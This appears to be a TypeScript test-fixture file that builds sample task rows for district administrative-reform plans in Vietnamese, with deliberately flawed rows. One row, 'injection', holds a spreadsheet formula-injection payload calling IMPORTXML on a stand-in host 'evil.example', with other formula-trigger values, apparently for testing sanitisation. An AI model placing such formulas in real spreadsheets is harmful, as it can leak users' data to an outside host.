import { REFORM_AREAS } from '../src/domain/plan/areas';
import { SampleUnit, SAMPLE_UNITS } from './vinh-linh';

/**
 * Realistic task rows for the sample district, as people really type them: every accepted form of
 * completion time and budget, and a sprinkling of the mistakes offices see (unreadable times,
 * misspelled agencies, legacy-encoded text, text that Sheets would turn into formulas).
 * Deterministic: the same unit always gets the same rows.
 */
export type SampleCell = string | number;

/** One task row in the unit's column order (TT … Ghi chú). */
export type SampleRow = readonly SampleCell[];

const TASKS_BY_AREA: readonly (readonly [string, string])[][] = [
  [
    ['Xây dựng, ban hành Kế hoạch CCHC năm 2025 của đơn vị', 'Kế hoạch được ban hành'],
    ['Tuyên truyền về CCHC trên cổng thông tin điện tử', 'Tin, bài tuyên truyền'],
    ['Kiểm tra công tác CCHC tại các bộ phận', 'Báo cáo kết quả kiểm tra'],
  ],
  [
    ['Rà soát, hệ thống hóa văn bản quy phạm pháp luật', 'Danh mục văn bản được rà soát'],
    ['Tuyên truyền, phổ biến giáo dục pháp luật', 'Hội nghị tuyên truyền'],
  ],
  [
    ['Rà soát, đơn giản hóa thủ tục hành chính', 'Phương án đơn giản hóa TTHC'],
    ['Giải quyết TTHC trên phần mềm một cửa điện tử', '100% hồ sơ được cập nhật'],
    ['Thực hiện xin lỗi tổ chức, cá nhân khi trễ hạn hồ sơ', 'Thư xin lỗi'],
  ],
  [
    ['Rà soát chức năng, nhiệm vụ, cơ cấu tổ chức', 'Đề án vị trí việc làm'],
    ['Sắp xếp, tinh gọn bộ máy', 'Quyết định sắp xếp'],
  ],
  [
    ['Đào tạo, bồi dưỡng cán bộ, công chức', 'Lớp bồi dưỡng'],
    ['Đánh giá, xếp loại công chức theo kết quả nhiệm vụ', 'Kết quả đánh giá'],
  ],
  [
    ['Thực hiện cơ chế tự chủ tài chính', 'Quy chế chi tiêu nội bộ'],
    ['Quản lý, sử dụng tài sản công', 'Báo cáo kiểm kê tài sản'],
  ],
  [
    ['Ứng dụng chữ ký số trong gửi nhận văn bản', '100% văn bản có chữ ký số'],
    ['Nâng cấp trang thiết bị công nghệ thông tin', 'Máy tính, máy scan'],
    ['Số hóa hồ sơ, kết quả giải quyết TTHC', 'Hồ sơ được số hóa'],
  ],
  [
    ['Khảo sát mức độ hài lòng của người dân (SIPAS)', 'Báo cáo khảo sát'],
    ['Triển khai các giải pháp nâng cao chỉ số PAPI, PCI', 'Kế hoạch nâng cao chỉ số'],
  ],
];

const TIMES: readonly SampleCell[] = [
  'Thường xuyên',
  'Quý I/2025',
  'Quý 2',
  '6 tháng đầu năm',
  'Tháng 6/2025',
  'T12/2025',
  'Trước ngày 15/12/2025',
  '15/12/2025',
  'Cả năm',
  'Định kỳ hằng quý',
  'Theo kế hoạch của tỉnh',
  'Trong năm 2025',
];

const BUDGETS: readonly SampleCell[] = [
  '50.000.000',
  '50000000',
  '50 triệu',
  30000000,
  'Kinh phí thường xuyên',
  'Lồng ghép',
  'Không',
  '15.500.000',
  '1,2 tỷ',
];

const SOURCES = ['Ngân sách huyện', 'NS tỉnh', 'Ngân sách xã', 'Vốn lồng ghép', 'Xã hội hóa', ''];

/** A small deterministic generator (mulberry32), seeded per unit. */
function random(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

function seedOf(text: string): number {
  let h = 2166136261;
  for (let i = 0; i < text.length; i++) h = Math.imul(h ^ text.charCodeAt(i), 16777619);
  return h >>> 0;
}

/** Tasks per area (index 0 = area I) for one unit. */
export function sampleTasks(unit: SampleUnit, units: readonly SampleUnit[] = SAMPLE_UNITS): SampleRow[][] {
  const next = random(seedOf(unit.code));
  const pick = <T>(items: readonly T[]) => items[Math.floor(next() * items.length)];
  const agencies = units.filter((u) => u.kind === 'Cơ quan chuyên môn').map((u) => u.name);
  let number = 0;
  return REFORM_AREAS.map((_area, i) => {
    const pool = TASKS_BY_AREA[i];
    const count = 1 + Math.floor(next() * pool.length);
    return pool.slice(0, count).map(([task, result]) => {
      number++;
      const budget = pick(BUDGETS);
      const amountLike = typeof budget === 'number' || /\d/.test(budget);
      return [
        `${number}.`,
        task,
        result,
        next() < 0.7 ? unit.name : pick(agencies),
        next() < 0.5 ? pick(agencies) : '',
        pick(TIMES),
        budget,
        amountLike ? pick(SOURCES) : '',
        '',
      ];
    });
  });
}

/**
 * The mistakes one unit in a few makes, keyed by what they test. Applied by the demo and tests to
 * chosen units so that every kind of problem appears at a known cell.
 */
export const MESSY_ROWS: Readonly<Record<string, SampleRow>> = {
  unreadableTime: [
    '',
    'Cập nhật cơ sở dữ liệu cán bộ',
    'Dữ liệu được cập nhật',
    '',
    '',
    'sớm nhất có thể',
    'Không',
    '',
    '',
  ],
  misspelledLead: [
    '',
    'Phối hợp rà soát TTHC',
    'Báo cáo',
    'Phòng Tu phap',
    '',
    'Quý III/2025',
    '10.000.000',
    'Ngân sách huyện',
    '',
  ],
  legacyText: [
    '',
    'KiÓm tra c«ng t¸c c¶i c¸ch hµnh chÝnh',
    'B¸o c¸o',
    '',
    '',
    'Quý IV/2025',
    'Không',
    '',
    '',
  ],
  wrongYear: [
    '',
    'Tổng kết công tác CCHC',
    'Báo cáo tổng kết',
    '',
    '',
    'Tháng 12/2024',
    'Kinh phí thường xuyên',
    '',
    '',
  ],
  badBudget: ['', 'Mua sắm trang thiết bị', 'Thiết bị', '', '', 'Quý II/2025', 'chưa xác định', '', ''],
  noTaskName: ['', '', 'Báo cáo', '', '', 'Quý I/2025', '5.000.000', 'Ngân sách xã', ''],
  injection: [
    '',
    '=IMPORTXML("http://evil.example/x","//a")',
    '+84912345678',
    '0012',
    '1/2',
    '- Rà soát quy trình',
    'Không',
    '',
    '',
  ],
};
